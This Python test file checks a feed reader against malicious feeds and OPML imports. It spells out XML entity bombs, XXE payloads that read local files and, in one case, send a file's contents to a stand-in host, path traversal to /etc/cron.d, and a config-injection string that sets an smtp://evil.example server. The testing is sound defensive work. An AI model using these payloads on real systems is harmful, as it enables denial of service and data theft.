"""Feeds that explode, that name files and addresses, that have no end of something; each is read as feed, page and OPML."""

import os
import shutil

from ground import HTML, RSS, Installation, Row, bounded, feed, item, page, site, well

STORY = "Troops and protesters clash near the parliament"
CANARY = "canary-that-nobody-may-read"


def rss(title, subset="", more=""):
    return f'<?xml version="1.0"?>{subset}<rss version="2.0"{more}><channel><title>t</title><item><title>{STORY} {title}</title><link>http://news.example/a</link><description>{title}</description></item></channel></rss>'


def laughs(depth, width):
    lines = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * width}">' for n in range(1, depth))
    return rss(f"&l{depth - 1};", f'<!DOCTYPE rss [<!ENTITY l0 "troops protest ">{lines}]>')


def parameter_laughs(depth):
    lines = "".join(f"<!ENTITY % p{n} '{f'&#37;p{n - 1};' * 10}'>" for n in range(1, depth))
    return rss("&x;", f"<!DOCTYPE rss [<!ENTITY % p0 'troops '>{lines}%p{depth - 1};<!ENTITY x '%p{depth - 1};'>]>")


def quadratic(size):
    return rss("&x;" * (size // 4), f'<!DOCTYPE rss [<!ENTITY x "{"troops " * (size // 14)}">]>')


def bombs(canary, is_long):
    """Name and document."""
    m = 1_000_000
    times = 4 if is_long else 1
    external = f"file://{canary}"
    return {
        "a billion laughs": laughs(10, 10),
        "laughs that are 40 deep": laughs(40, 2),
        "entities that name each other in a circle": rss("&a;", '<!DOCTYPE rss [<!ENTITY a "&b;"><!ENTITY b "&a;&a;">]>'),
        "an entity that names itself": rss("&a;" * 1000, '<!DOCTYPE rss [<!ENTITY a "x&a;&a;">]>'),
        "laughs of parameter entities": parameter_laughs(10),
        "quadratic blowup": quadratic(2 * m * times),
        "an entity of a file": rss("&x;", f'<!DOCTYPE rss [<!ENTITY x SYSTEM "{external}">]>'),
        "an entity of a file by its path": rss("&x;", f'<!DOCTYPE rss [<!ENTITY x SYSTEM "{canary}">]>'),
        "an entity of an address": rss("&x;", '<!DOCTYPE rss [<!ENTITY x SYSTEM "http://trap.example/entity">]>'),
        "an entity with a public name": rss("&x;", '<!DOCTYPE rss [<!ENTITY x PUBLIC "-//x" "http://trap.example/public">]>'),
        "a document type elsewhere": rss("&x;", '<!DOCTYPE rss SYSTEM "http://trap.example/dtd">'),
        "a parameter entity of an address": rss("&x;", '<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://trap.example/parameter">%p;]>'),
        "a parameter entity that carries a file out": rss("x", f'<!DOCTYPE rss [<!ENTITY % f SYSTEM "{external}"><!ENTITY % p "<!ENTITY &#37; s SYSTEM \'http://trap.example/?%f;\'>">%p;%s;]>'),
        "an unparsed entity and a notation": rss("x", '<!DOCTYPE rss [<!NOTATION n SYSTEM "http://trap.example/n"><!ENTITY x SYSTEM "http://trap.example/u" NDATA n>]>'),
        "XInclude of a file": rss(f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{external}" parse="text"/>'),
        "XInclude of an address": rss('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="http://trap.example/xi"/>'),
        "a stylesheet of an address": '<?xml-stylesheet type="text/xsl" href="http://trap.example/xsl"?>' + rss("x"),
        "a schema of an address": rss("x", more=' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="x http://trap.example/xsd"'),
        "an XML base of a file": rss('<a xml:base="file:///etc/" href="passwd">x</a>'),
        "elements nested 300,000 deep": rss("<a>" * 300_000),
        "media groups nested 20,000 deep": rss("x" + '<media:group xmlns:media="http://search.yahoo.com/mrss/">' * 20_000),
        "divs nested 200,000 deep in a description": rss("<![CDATA[" + "<div>" * 200_000 + "]]>"),
        "an attribute of 10 MB": rss(f'<b title="{"x" * 10 * m}">x</b>'),
        "200,000 attributes": rss("<b " + " ".join(f'a{n}="{n}"' for n in range(200_000)) + ">x</b>"),
        "100,000 namespaces": rss("<b " + " ".join(f'xmlns:n{n}="http://n/{n}"' for n in range(100_000)) + ">x</b>"),
        "namespaces declared at each of 200 levels": rss("".join("<b " + " ".join(f'xmlns:n{n}x{k}="u"' for k in range(50)) + ">" for n in range(200))),
        "300,000 entities declared": rss("&e7;", "<!DOCTYPE rss [" + "".join(f'<!ENTITY e{n} "v{n}">' for n in range(300_000)) + "]>"),
        "an internal subset without end": "<!DOCTYPE rss [" + "<!ENTITY x 'y'" * 300_000,
        "a comment without end": "<rss><!--" + "-" * 8 * m,
        "CDATA without end": "<rss><channel><item><title><![CDATA[" + "]]" * 4 * m,
        "a title of 12 MB": rss("troops protest " * (12 * m // 15 // 2)),
        "2 million character references": rss("&#65;" * 2 * m),
        "references to what is no character": rss("&#0;&#xD800;&#xFFFE;&#x110000;&#99999999999999999999;&#x1b;&#x202e;" * 1000),
        "150,000 items": "<rss version='2.0'><channel>" + "".join(f"<item><title>{STORY} {n}</title><guid>{n}</guid></item>" for n in range(150_000)),
        "one item with 300,000 links": rss("x" + "".join(f"<link>http://news.example/{n}</link>" for n in range(300_000))),
        "400,000 categories": rss("x</description>" + "<category>troops</category>" * 400_000 + "<description>x"),
        "4 million opening brackets": "<rss>" + "<" * 4 * m,
        "4 million ampersands": rss("&" * 4 * m),
        "JSON nested 1 million deep": '{"version":"https://jsonfeed.org/version/1.1","items":' + "[" * m,
        "JSON with a number of 5 million digits": '{"version":"https://jsonfeed.org/version/1.1","title":"t","items":[{"id":' + "9" * 5 * m + "}]}",
        "JSON with 200,000 keys of one name": '{"version":"https://jsonfeed.org/version/1.1","title":"t","items":[{' + '"id":"a",' * 200_000 + '"id":"b"}]}',
        "a charset that makes text of nothing": '<?xml version="1.0" encoding="UTF-7"?>' + rss("+ADw-script+AD4-"),
        "a document that calls itself UTF-16 and is none": '<?xml version="1.0" encoding="UTF-16"?>' + rss("x" * m),
    }


def rows(binary, folder, world, is_long):
    os.makedirs(folder)
    canary = os.path.join(folder, "canary")
    with open(canary, "w") as file:
        file.write(CANARY)
    row, slowest, largest = Row("an XML or JSON bomb, an external entity, or a document without end of something, as a feed"), (0, ""), (0, "")
    for n, (name, document) in enumerate(bombs(canary, is_long).items()):
        found, done = trial(binary, os.path.join(folder, f"feed-{n}"), world, document.encode("utf-8", "surrogatepass"), RSS)
        slowest, largest = max(slowest, (done.seconds, name)), max(largest, (done.memory, name))
        row.judge(name, found)
    row.notes = [f"at most {largest[0]:.0f} MiB ({largest[1]})", f"at most {slowest[0]:.1f} s of processor ({slowest[1]})"]
    yield row
    if is_long:
        row = Row("the same in place of a page")
        for n, (name, document) in enumerate(bombs(canary, False).items()):
            row.judge(name, as_page(binary, os.path.join(folder, f"page-{n}"), world, document.encode("utf-8", "surrogatepass")))
        yield row
    yield as_opml(binary, os.path.join(folder, "opml"), world, canary)


def trial(binary, folder, world, document, kind):
    """The bomb as one feed, and beside it a feed of another host, whose news comes through in the same round."""
    world.clear()
    world.hosts["news.example"] = site({"/rss": (200, {"Content-Type": kind}, document), "/a": page(STORY)})
    world.hosts["other.example"] = site({"/rss": feed(item("http://other.example/a", f"{STORY} today")), "/a": page(f"{STORY} today")})
    installed = Installation(binary, folder, {"news": "http://news.example/rss", "other": "http://other.example/rss"})
    done = installed.look()
    found = bounded(done) + world.breaches() + traps(world, installed)
    if not any("today" in str(mail) for mail in installed.mails()):
        found.append("the other feed's news did not come through")
    shutil.rmtree(folder)
    return found, done


def as_page(binary, folder, world, document):
    world.clear()
    world.hosts["news.example"] = site({"/rss": feed(item("http://news.example/a", STORY)), "/a": (200, {"Content-Type": HTML}, document)})
    installed = Installation(binary, folder, {"news": "http://news.example/rss"})
    done = installed.look()
    found = bounded(done) + world.breaches() + traps(world, installed)
    shutil.rmtree(folder)
    return found


def traps(world, installed):
    found = [f"{what} was asked for" for what in world.asked if what.startswith("trap.")]
    for name in os.listdir(installed.folder):
        if name.startswith("wirewatch.db"):
            with open(os.path.join(installed.folder, name), "rb") as file:
                if CANARY.encode() in file.read():
                    found.append("what a file holds was read")
    told = installed.run("articles", "--json", "--limit", "0").stdout.decode()
    if CANARY in told:
        found.append("what a file holds is shown")
    return found


def as_opml(binary, folder, world, canary):
    row = Row("the same tricks in an OPML file that is imported")
    installed = Installation(binary, folder, {})
    outline = '<body><outline text="%s" xmlUrl="http://news.example/rss"/></body></opml>'
    documents = {
        "a billion laughs": laughs(10, 10).split("<rss")[0] + "<opml>" + outline % "&l9;",
        "a file": f'<!DOCTYPE opml [<!ENTITY x SYSTEM "file://{canary}">]><opml>' + outline % "&x;",
        "an address": '<!DOCTYPE opml [<!ENTITY x SYSTEM "http://trap.example/x">]><opml>' + outline % "&x;",
        "nested 200,000 deep": "<opml><body>" + "<outline text='x'>" * 200_000,
        "a name that goes up": "<opml>" + outline % "../../etc/cron.d/x",
        "a name that writes configuration": "<opml>" + outline % "x&quot;&#10;[mail]&#10;smtp = &quot;smtp://evil.example&quot;&#10;#",
        "an address of a file": '<opml><body><outline text="x" xmlUrl="file:///etc/passwd"/></body></opml>',
    }
    for n, (name, document) in enumerate(documents.items()):
        path = os.path.join(folder, f"{n}.opml")
        with open(path, "w") as file:
            file.write('<?xml version="1.0"?>' + document)
        done = installed.run("feeds", "import", path)
        found = [complaint for complaint in well(done) if "ended with 2" not in complaint] + traps(world, installed)
        written = done.stdout.decode()
        if "\n[mail]" in written or "file:///etc" in written or CANARY in written:
            found.append(f"printed {written[-200:]}")
        row.judge(name, found)
    return row
